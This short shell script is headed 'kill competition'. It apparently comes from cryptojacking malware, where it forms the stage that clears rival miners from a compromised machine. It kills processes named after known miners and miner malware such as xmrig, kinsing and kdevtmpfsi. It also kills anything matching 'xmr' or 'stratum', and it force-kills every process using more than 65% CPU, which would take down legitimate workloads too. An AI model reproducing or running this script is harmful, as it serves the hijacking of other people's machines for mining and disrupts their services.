#!/bin/sh
# kill competition
pkill -f xmrig
pkill -f kdevtmpfsi
pkill -f kinsing
killall -9 minerd cpuminer xmr-stak 2>/dev/null
pkill -f cryptonight
pkill -f sysupdate
pkill -f networkservice
ps aux | grep -v grep | grep 'xmr' | awk '{print $2}' | xargs kill -9
ps aux | grep -v grep | grep 'stratum' | awk '{print $2}' | xargs -I % kill -9 %
ps aux | awk '{if($3>65.0) print $2}' | while read procid; do kill -9 $procid; done
